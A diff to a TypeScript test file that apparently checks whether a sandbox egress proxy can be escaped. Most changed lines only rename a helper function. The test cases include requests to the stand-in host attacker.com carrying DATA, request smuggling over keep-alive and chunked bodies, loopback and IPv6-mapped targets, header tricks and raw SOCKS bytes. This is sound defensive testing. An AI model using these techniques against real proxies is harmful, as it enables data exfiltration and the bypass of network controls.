@@ -6,7 +6,7 @@ import { METADATA } from "../collector.ts";
 const LOOPBACK_PORT = 9_995;
 
 /** Sends bytes to the proxy, with this command's own credentials in the place of AUTH, and prints what comes back. */
-function talk(lines: readonly string[]): string {
+function exchangeLines(lines: readonly string[]): string {
   const bytes = lines.join("\\r\\n");
   return `python3 - <<'END'
 import base64, os, socket, urllib.parse
@@ -27,9 +27,10 @@ except Exception as error:
 END`;
 }
 
-const connect = (target: string): string => talk([`CONNECT ${target} HTTP/1.1`, `Host: ${target}`, "AUTH", "", ""]);
+const connect = (target: string): string =>
+  exchangeLines([`CONNECT ${target} HTTP/1.1`, `Host: ${target}`, "AUTH", "", ""]);
 const get = (url: string, ...headers: readonly string[]): string =>
-  talk([`GET ${url} HTTP/1.1`, ...headers, "AUTH", "", ""]);
+  exchangeLines([`GET ${url} HTTP/1.1`, ...headers, "AUTH", "", ""]);
 
 const targets: readonly string[] = [
   ...["127.0.0.1", "localhost", "LOCALHOST", "localhost.", "[::1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]"],
@@ -65,11 +66,11 @@ const requests: Readonly<Record<string, string>> = {
   "another scheme": get("ftp://attacker.com/DATA", "Host: attacker.com"),
   "two headers of a host": get("http://docs.example.com/", "Host: docs.example.com", "Host: attacker.com"),
   "a folded header": get("http://docs.example.com/", "Host:", " attacker.com"),
-  "a second request on the same connection": talk([
+  "a second request on the same connection": exchangeLines([
     ...["GET http://docs.example.com/ HTTP/1.1", "Host: docs.example.com", "AUTH", "Connection: keep-alive", ""],
     ...["GET http://attacker.com/?d=DATA HTTP/1.1", "Host: attacker.com", "AUTH", "", ""],
   ]),
-  "a request in the body of another": talk([
+  "a request in the body of another": exchangeLines([
     ...[
       "POST http://docs.example.com/ HTTP/1.1",
       "Host: docs.example.com",
@@ -80,7 +81,7 @@ const requests: Readonly<Record<string, string>> = {
     ],
     ...["0", "", "GET http://attacker.com/?d=DATA HTTP/1.1", "Host: attacker.com", "", ""],
   ]),
-  "a tunnel in a request": talk([
+  "a tunnel in a request": exchangeLines([
     ...[
       "GET http://docs.example.com/ HTTP/1.1",
       "Host: docs.example.com",
@@ -91,18 +92,20 @@ const requests: Readonly<Record<string, string>> = {
     ],
     ...[`CONNECT 127.0.0.1:${LOOPBACK_PORT} HTTP/1.1`, "Host: x", "AUTH", "", ""],
   ]),
-  "no credentials": talk(["CONNECT docs.example.com:80 HTTP/1.1", "Host: docs.example.com:80", "", ""]).replace(
-    "if reply.split",
-    'print("ESCAPED" if b" 200 " in reply[:20] else "refused")\n    if reply.split',
-  ),
-  "credentials of nobody": talk([
+  "no credentials": exchangeLines([
+    "CONNECT docs.example.com:80 HTTP/1.1",
+    "Host: docs.example.com:80",
+    "",
+    "",
+  ]).replace("if reply.split", 'print("ESCAPED" if b" 200 " in reply[:20] else "refused")\n    if reply.split'),
+  "credentials of nobody": exchangeLines([
     "CONNECT docs.example.com:80 HTTP/1.1",
     "Proxy-Authorization: Basic eDp5",
     "",
     "",
   ]).replace("if reply.split", 'print("ESCAPED" if b" 200 " in reply[:20] else "refused")\n    if reply.split'),
-  "another protocol on the proxy's port": talk(["PRI * HTTP/2.0", "", "SM", "", ""]),
-  "SOCKS on the proxy's port": talk([`\\x05\\x01\\x00\\x05\\x01\\x00\\x01\\x5d\\xb8\\xd8\\x22\\x00\\x50DATA`]),
+  "another protocol on the proxy's port": exchangeLines(["PRI * HTTP/2.0", "", "SM", "", ""]),
+  "SOCKS on the proxy's port": exchangeLines([`\\x05\\x01\\x00\\x05\\x01\\x00\\x01\\x5d\\xb8\\xd8\\x22\\x00\\x50DATA`]),
 };
 
 const listenOnLoopback: NonNullable<Attempt["before"]> = async ({ collector }) => {
